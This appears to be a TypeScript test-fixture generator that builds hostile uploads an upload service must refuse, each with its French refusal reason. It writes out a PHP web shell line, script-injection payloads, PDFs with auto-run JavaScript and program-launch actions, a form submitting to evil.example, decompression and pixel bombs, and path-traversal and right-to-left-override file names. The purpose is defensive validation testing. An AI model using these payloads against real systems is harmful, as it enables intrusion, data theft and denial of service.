// A generator of hostile files, each with what the person must read when it is refused: disguised
// files, polyglots, PDFs that run code (in the clear, in object streams, behind #xx escapes, in
// annotations), embedded files, XFA forms, deflate and pixel bombs, bad names, empty and oversize.
// Built with pdf-lib where a genuine writer would produce the file, by hand where the trick is
// in the bytes themselves.
import { execFileSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { crc32, deflateSync } from 'node:zlib';
import { PDFDocument, PDFName, PDFString, type PDFContext, type PDFDict } from 'pdf-lib';

/** A PDF dictionary as pdf-lib's literals write it (names as strings). */
interface Dict {
  [key: string]: string | number | PDFString | Dict | number[] | [];
}
/** pdf-lib's `obj` for a dictionary literal (its overloads end on the array one). */
const dictOf = (context: PDFContext, literal: Dict): PDFDict =>
  (context.obj.bind(context) as (l: Dict) => PDFDict)(literal);
import { GIF_1PX, PNG_1PX, makeBmp, makeJpeg, makePdf, makeTiff } from './documents.js';

export interface HostileFile {
  title: string;
  filename: string;
  content: Buffer;
  /** The name the refusal shows. */
  shown: string;
  /** A fragment of the French refusal (the reason). */
  reason: string;
}

export const REASON = {
  content: (kind: string) => `son contenu n’est pas celui d’un fichier ${kind}`,
  active: 'il contient du code exécutable',
  bomb: 'ses dimensions ou son contenu décompressé dépassent',
  type: 'formats acceptés PDF, PNG, JPG, TIF, BMP, GIF',
  empty: 'il est vide',
  tooLarge: 'il dépasse 10 Mo',
  name: 'son nom n’est pas valide',
  encrypted: 'il est protégé par un mot de passe',
  corrupt: 'est endommagé et ne peut pas être lu',
} as const;

const MB = 1024 * 1024;
export const MZ = Buffer.concat([
  Buffer.from('MZ'),
  Buffer.alloc(60),
  Buffer.from('This program cannot be run in DOS mode'),
  randomBytes(2000),
]);
const HTML = Buffer.from('<!doctype html><html><body><script>fetch("/dossiers")</script></body></html>');
const PHP = Buffer.from('<?php system($_GET["c"]); ?>');

/** A small but well-formed ZIP (one stored entry, its directory and end record). */
export function makeZip(): Buffer {
  const name = Buffer.from('payload.js');
  const data = Buffer.from('alert(document.cookie)');
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt32LE(crc32(data), 14);
  local.writeUInt32LE(data.length, 18);
  local.writeUInt32LE(data.length, 22);
  local.writeUInt16LE(name.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt32LE(crc32(data), 16);
  central.writeUInt32LE(data.length, 20);
  central.writeUInt32LE(data.length, 24);
  central.writeUInt16LE(name.length, 28);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(46 + name.length, 12);
  end.writeUInt32LE(30 + name.length + data.length, 16);
  return Buffer.concat([local, name, data, central, name, end]);
}

function pngChunk(type: string, data: Buffer): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(data.length, 0);
  head.write(type, 4, 'latin1');
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(Buffer.concat([head.subarray(4), data])), 0);
  return Buffer.concat([head, data, crc]);
}

/** A PNG of the given declared size (grey, 8 bits) whose pixel data is `idat`. */
function pngOf(width: number, height: number, idat: Buffer, extra: Buffer[] = []): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 8;
  ihdr[9] = 0;
  return Buffer.concat([
    PNG_1PX.subarray(0, 8),
    pngChunk('IHDR', ihdr),
    ...extra,
    pngChunk('IDAT', idat),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** Zeros compressed: a few hundred KB that inflate to `size` bytes. */
function zeros(size: number): Buffer {
  return deflateSync(Buffer.alloc(size), { level: 9 });
}

async function onePagePdf(edit: (doc: PDFDocument) => void | Promise<void>, objectStreams = false): Promise<Buffer> {
  const doc = await PDFDocument.load(await makePdf(1));
  await edit(doc);
  return Buffer.from(await doc.save({ useObjectStreams: objectStreams }));
}

/** A page annotation whose activation runs the action. */
function annotate(doc: PDFDocument, annotation: Dict): void {
  const page = doc.getPage(0);
  const ref = doc.context.register(dictOf(doc.context, { Type: 'Annot', Rect: [0, 0, 100, 100], ...annotation }));
  page.node.set(PDFName.of('Annots'), doc.context.obj([ref]));
}

function openAction(doc: PDFDocument, action: Dict): void {
  doc.catalog.set(PDFName.of('OpenAction'), dictOf(doc.context, action));
}

/**
 * A hand-written PDF: objects numbered from 1 in the order given (1 is the catalog), a classic
 * cross-reference table with the true offsets.
 */
export function rawPdf(objects: Array<string | Buffer>): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  let size = parts[0]!.length;
  const offsets: number[] = [];
  objects.forEach((body, i) => {
    offsets.push(size);
    const chunk = Buffer.concat([
      Buffer.from(`${i + 1} 0 obj\n`),
      Buffer.isBuffer(body) ? body : Buffer.from(body, 'latin1'),
      Buffer.from('\nendobj\n'),
    ]);
    parts.push(chunk);
    size += chunk.length;
  });
  const xref = [
    `xref\n0 ${objects.length + 1}\n`,
    '0000000000 65535 f \n',
    ...offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`),
  ].join('');
  parts.push(
    Buffer.from(`${xref}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${size}\n%%EOF\n`, 'latin1'),
  );
  return Buffer.concat(parts);
}

function streamObject(dict: string, data: Buffer): Buffer {
  return Buffer.concat([
    Buffer.from(`<< ${dict} /Length ${data.length} >>\nstream\n`, 'latin1'),
    data,
    Buffer.from('\nendstream', 'latin1'),
  ]);
}

/** An object stream holding `objects` (numbered from `first`), compressed. */
function objectStream(first: number, objects: string[]): Buffer {
  let offset = 0;
  const header: string[] = [];
  for (const [i, o] of objects.entries()) {
    header.push(`${first + i} ${offset}`);
    offset += o.length + 1;
  }
  const head = `${header.join(' ')}\n`;
  const body = Buffer.from(head + objects.join('\n') + '\n', 'latin1');
  return streamObject(
    `/Type /ObjStm /N ${objects.length} /First ${head.length} /Filter /FlateDecode`,
    deflateSync(body),
  );
}

const PAGES = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
const PAGE = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>';

async function encryptedPdf(): Promise<Buffer> {
  const dir = await mkdtemp(path.join(os.tmpdir(), 'guichet-hostile-'));
  try {
    await writeFile(path.join(dir, 'plain.pdf'), await makePdf(1));
    execFileSync('qpdf', [
      '--encrypt',
      'user-pass',
      'owner-pass',
      '256',
      '--',
      path.join(dir, 'plain.pdf'),
      path.join(dir, 'locked.pdf'),
    ]);
    return await readFile(path.join(dir, 'locked.pdf'));
  } finally {
    await rm(dir, { recursive: true, force: true });
  }
}

/** A PDF whose one page draws an image stream inflating to `inflated` bytes. */
export async function deflateBombPdf(inflated = 1024 * MB): Promise<Buffer> {
  return onePagePdf((doc) => {
    const bomb = doc.context.stream(zeros(inflated), {
      Type: 'XObject',
      Subtype: 'Image',
      Width: 1,
      Height: 1,
      BitsPerComponent: 8,
      ColorSpace: 'DeviceGray',
      Filter: 'FlateDecode',
    });
    doc.getPage(0).node.setXObject(PDFName.of('Bomb'), doc.context.register(bomb));
  });
}

function jpegWithFrame(width: number, height: number): Buffer {
  const jpeg = makeJpeg();
  const sof = Buffer.from([0xff, 0xc0, 0x00, 0x0b, 0x08, 0, 0, 0, 0, 0x01, 0x01, 0x11, 0x00]);
  sof.writeUInt16BE(height, 5);
  sof.writeUInt16BE(width, 7);
  return Buffer.concat([jpeg.subarray(0, 2), sof, jpeg.subarray(2)]);
}

function gifOf(width: number, height: number): Buffer {
  const gif = Buffer.from(GIF_1PX);
  gif.writeUInt16LE(width, 6);
  gif.writeUInt16LE(height, 8);
  return gif;
}

function bmpOf(width: number, height: number): Buffer {
  const bmp = makeBmp();
  bmp.writeInt32LE(width, 18);
  bmp.writeInt32LE(height, 22);
  return bmp;
}

function tiffOf(width: number, height: number): Buffer {
  const tiff = makeTiff();
  // The first two entries (ImageWidth, ImageLength) made LONG.
  for (const [i, value] of [width, height].entries()) {
    tiff.writeUInt16LE(4, 10 + i * 12 + 2);
    tiff.writeUInt32LE(value, 10 + i * 12 + 8);
  }
  return tiff;
}

const same = (filename: string, content: Buffer, reason: string, title: string): HostileFile => ({
  title,
  filename,
  content,
  shown: filename,
  reason,
});

/** Every hostile file, each refused by every upload route. */
export async function hostileFiles(): Promise<HostileFile[]> {
  const pdf = await makePdf(1);
  const jpeg = makeJpeg();
  const files: HostileFile[] = [
    // ---- disguised: the bytes are not those the name announces ----
    same('releve.pdf', MZ, REASON.content('PDF'), 'an executable behind a .pdf name'),
    same('photo.jpg', PNG_1PX, REASON.content('JPEG'), 'PNG bytes behind a .jpg name'),
    same('scan.png', pdf, REASON.content('PNG'), 'a PDF behind a .png name'),
    same('archive.pdf', makeZip(), REASON.content('PDF'), 'a ZIP behind a .pdf name'),
    same('page.pdf', HTML, REASON.content('PDF'), 'HTML behind a .pdf name'),
    same(
      'anim.gif',
      Buffer.from('GIF89a=1;alert(document.domain);//;'),
      REASON.content('GIF'),
      'a GIF/JavaScript polyglot',
    ),
    same('fax.tif', makeBmp(), REASON.content('TIFF'), 'BMP bytes behind a .tif name'),
    same('image.bmp', GIF_1PX, REASON.content('BMP'), 'GIF bytes behind a .bmp name'),
    // ---- kinds not accepted at all ----
    same(
      'logo.svg',
      Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
      REASON.type,
      'an SVG',
    ),
    same('index.html', HTML, REASON.type, 'an HTML page'),
    same('shell.php', PHP, REASON.type, 'a PHP script'),
    same('scan.pdf.exe', MZ, REASON.type, 'a double extension ending in .exe'),
    same('document', pdf, REASON.type, 'a name without extension'),
    // ---- polyglots ----
    same(
      'photo.jpg',
      Buffer.concat([jpeg, PHP, Buffer.from([0xff, 0xd9])]),
      REASON.active,
      'a JPEG with a PHP tail (and an end marker after it)',
    ),
    same('photo2.jpg', Buffer.concat([jpeg, HTML]), REASON.active, 'a JPEG with HTML appended'),
    same(
      'photo3.jpg',
      Buffer.concat([jpeg, makeZip(), Buffer.from([0xff, 0xd9])]),
      REASON.content('JPEG'),
      'a JPEG with a ZIP inside before its end marker',
    ),
    same('image.png', Buffer.concat([PNG_1PX, makeZip()]), REASON.content('PNG'), 'a PNG with a ZIP appended'),
    same(
      'texte.png',
      pngOf(1, 1, deflateSync(Buffer.from([0, 0])), [
        pngChunk('tEXt', Buffer.from('Comment\0<html><script>alert(1)</script></html>')),
      ]),
      REASON.active,
      'HTML inside a PNG text chunk',
    ),
    same(
      'anim2.gif',
      Buffer.concat([
        GIF_1PX.subarray(0, GIF_1PX.length - 1),
        Buffer.from([0x21, 0xfe, 0x10]),
        Buffer.from('<script>x</script'.slice(0, 16)),
        Buffer.from([0x00, 0x3b]),
      ]),
      REASON.active,
      'a script in a GIF comment',
    ),
    same(
      'contrat.pdf',
      Buffer.concat([pdf, makeZip(), Buffer.from('\n%%EOF\n')]),
      REASON.content('PDF'),
      'a PDF with a ZIP appended (and %%EOF after it)',
    ),
    same(
      'polyglotte.pdf',
      Buffer.concat([pdf.subarray(0, 9), Buffer.from('%<html><script>alert(1)</script>\n'), pdf.subarray(9)]),
      REASON.active,
      'a PDF/HTML polyglot',
    ),
    same('scan.bmp', Buffer.concat([makeBmp(), makeZip()]), REASON.content('BMP'), 'a BMP with a ZIP appended'),
    // ---- PDFs that run code or carry files ----
    same(
      'formulaire.pdf',
      await onePagePdf((d) => openAction(d, { S: 'JavaScript', JS: PDFString.of('app.alert(1)') })),
      REASON.active,
      'a PDF with /OpenAction JavaScript',
    ),
    same(
      'lanceur.pdf',
      await onePagePdf((d) => openAction(d, { S: 'Launch', F: PDFString.of('calc.exe') }), true),
      REASON.active,
      'a PDF launching a program, in an object stream',
    ),
    same(
      'objstm.pdf',
      await onePagePdf((d) => openAction(d, { S: 'JavaScript', JS: PDFString.of('app.alert(2)') }), true),
      REASON.active,
      'JavaScript in an object stream (pdf-lib)',
    ),
    same(
      'cache.pdf',
      rawPdf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        PAGES,
        PAGE,
        objectStream(5, ['<< /S /J#61vaScript /J#53 (app.alert(3)) >>']),
        '<< /Type /XRef >>',
      ]),
      REASON.active,
      '#xx-escaped JavaScript inside a hand-made object stream',
    ),
    same(
      'echappe.pdf',
      rawPdf([
        '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>',
        PAGES,
        PAGE,
        '<< /S /#4A#61#76#61#53#63#72#69#70#74 /JS (app.alert(4)) >>',
      ]),
      REASON.active,
      'a fully #xx-escaped /JavaScript',
    ),
    same(
      'lien.pdf',
      await onePagePdf((d) =>
        annotate(d, { Subtype: 'Link', A: { S: 'JavaScript', JS: PDFString.of('app.alert(5)') } }),
      ),
      REASON.active,
      'a link annotation running JavaScript',
    ),
    same(
      'lien2.pdf',
      await onePagePdf((d) => annotate(d, { Subtype: 'Link', A: { S: 'Launch', F: PDFString.of('cmd.exe') } }), true),
      REASON.active,
      'an annotation launching a program, in an object stream',
    ),
    same(
      'envoi.pdf',
      await onePagePdf((d) =>
        annotate(d, { Subtype: 'Widget', A: { S: 'SubmitForm', F: PDFString.of('https://evil.example/collect') } }),
      ),
      REASON.active,
      'a widget submitting the form elsewhere',
    ),
    same(
      'import.pdf',
      await onePagePdf((d) => annotate(d, { Subtype: 'Widget', A: { S: 'ImportData', F: PDFString.of('data.fdf') } })),
      REASON.active,
      'a widget importing data',
    ),
    same(
      'uri.pdf',
      await onePagePdf((d) =>
        annotate(d, { Subtype: 'Link', A: { S: 'URI', URI: PDFString.of('javascript:alert(6)') } }),
      ),
      REASON.active,
      'a javascript: link',
    ),
    same(
      'media.pdf',
      await onePagePdf((d) => annotate(d, { Subtype: 'RichMedia' })),
      REASON.active,
      'a RichMedia (Flash) annotation',
    ),
    same(
      'actions.pdf',
      await onePagePdf(
        (d) => annotate(d, { Subtype: 'Widget', AA: { Fo: { S: 'JavaScript', JS: PDFString.of('app.alert(7)') } } }),
        true,
      ),
      REASON.active,
      'additional actions on a widget, in an object stream',
    ),
    same(
      'xfa.pdf',
      await onePagePdf((d) => {
        const xfa = d.context.register(d.context.stream('<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"></xdp:xdp>'));
        d.catalog.set(PDFName.of('AcroForm'), d.context.obj({ Fields: [], XFA: xfa }));
      }),
      REASON.active,
      'an XFA form',
    ),
    same(
      'piece-jointe.pdf',
      await onePagePdf(async (d) => {
        await d.attach(MZ, 'setup.exe', { mimeType: 'application/x-msdownload', description: 'Mise à jour' });
      }),
      REASON.active,
      'a PDF with an embedded executable',
    ),
    same(
      'piece-jointe2.pdf',
      await onePagePdf(async (d) => {
        await d.attach(MZ, 'setup.exe', { mimeType: 'application/x-msdownload' });
      }, true),
      REASON.active,
      'an embedded executable, its catalog in an object stream',
    ),
    same(
      'gotoe.pdf',
      await onePagePdf((d) => {
        const names = d.catalog.lookup(PDFName.of('Names')) as PDFDict | undefined;
        if (names) names.delete(PDFName.of('EmbeddedFiles'));
        openAction(d, { S: 'GoToE', T: { R: 'C', N: PDFString.of('x') } });
      }),
      REASON.active,
      'an action opening an embedded document',
    ),
    same('protege.pdf', await encryptedPdf(), REASON.encrypted, 'an encrypted PDF (qpdf, AES-256)'),
    same(
      'casse.pdf',
      Buffer.concat([
        Buffer.from('%PDF-1.7\n'),
        Buffer.from(randomBytes(4000).map((b) => (b === 0x3c || b === 0x3a || b === 0x2f ? 0x20 : b))),
        Buffer.from('\n%%EOF\n'),
      ]),
      REASON.corrupt,
      'a corrupt PDF',
    ),
    // ---- bombs ----
    same('bombe.pdf', await deflateBombPdf(), REASON.bomb, 'a PDF deflate bomb (1 GB of zeros)'),
    same(
      'geante.png',
      pngOf(100_000, 100_000, deflateSync(Buffer.alloc(1000))),
      REASON.bomb,
      'a PNG declaring 100,000 × 100,000 pixels',
    ),
    same('zip.png', pngOf(1000, 1000, zeros(256 * MB)), REASON.bomb, 'a PNG whose pixel data inflates to 256 MB'),
    same('geante.gif', gifOf(65_535, 65_535), REASON.bomb, 'a GIF declaring 65,535 × 65,535'),
    same('geante.jpg', jpegWithFrame(65_535, 65_535), REASON.bomb, 'a JPEG frame of 65,535 × 65,535'),
    same('geante.bmp', bmpOf(100_000, -100_000), REASON.bomb, 'a BMP of 100,000 × 100,000'),
    same('geante.tif', tiffOf(200_000, 200_000), REASON.bomb, 'a TIFF of 200,000 × 200,000'),
    // ---- names ----
    {
      title: 'a path-traversal name',
      filename: '../../../etc/cron.d/evil.pdf',
      content: pdf,
      shown: 'evil.pdf',
      reason: REASON.name,
    },
    {
      title: 'a Windows path-traversal name',
      filename: '..\\..\\Windows\\evil.pdf',
      content: pdf,
      shown: 'evil.pdf',
      reason: REASON.name,
    },
    {
      title: 'a right-to-left override hiding .exe',
      filename: 'facture\u202Efdp.exe',
      content: MZ,
      shown: 'facturefdp.exe',
      reason: REASON.type,
    },
    {
      title: 'a first-strong isolate hiding .exe',
      filename: 'photo\u2068gpj.exe\u2069',
      content: MZ,
      shown: 'photogpj.exe',
      reason: REASON.type,
    },
    {
      title: 'control characters around an executable',
      filename: 'scan\u0000\u0007.pdf\u0001.exe',
      content: MZ,
      shown: 'scan.pdf.exe',
      reason: REASON.type,
    },
    {
      title: 'a name of control characters only',
      filename: '\u0001\u0002\u200e',
      content: pdf,
      shown: '?',
      reason: REASON.name,
    },
    // ---- sizes ----
    same('vide.pdf', Buffer.alloc(0), REASON.empty, 'an empty file'),
    same(
      'gros.pdf',
      Buffer.concat([pdf, Buffer.alloc(10 * MB + 1 - pdf.length, 0x20)]),
      REASON.tooLarge,
      '10 MB + 1 byte',
    ),
  ];
  return files;
}

/** Names the rule sanitizes (the file itself genuine): what is stored and shown instead. */
export function sanitizedNames(): Array<{ filename: string; stored: string }> {
  return [
    { filename: 'facture\u202Egpj.pdf', stored: 'facturegpj.pdf' },
    { filename: '\u2066isolé\u2069 \u202Dscan.pdf', stored: 'isolé scan.pdf' },
    { filename: 'rel\u0007evé\u0000.pdf', stored: 'relevé.pdf' },
    { filename: 'C:\\fakepath\\scan.pdf', stored: 'scan.pdf' },
    { filename: 'CON.pdf', stored: '_CON.pdf' },
    { filename: 'lpt1.pdf', stored: '_lpt1.pdf' },
  ];
}
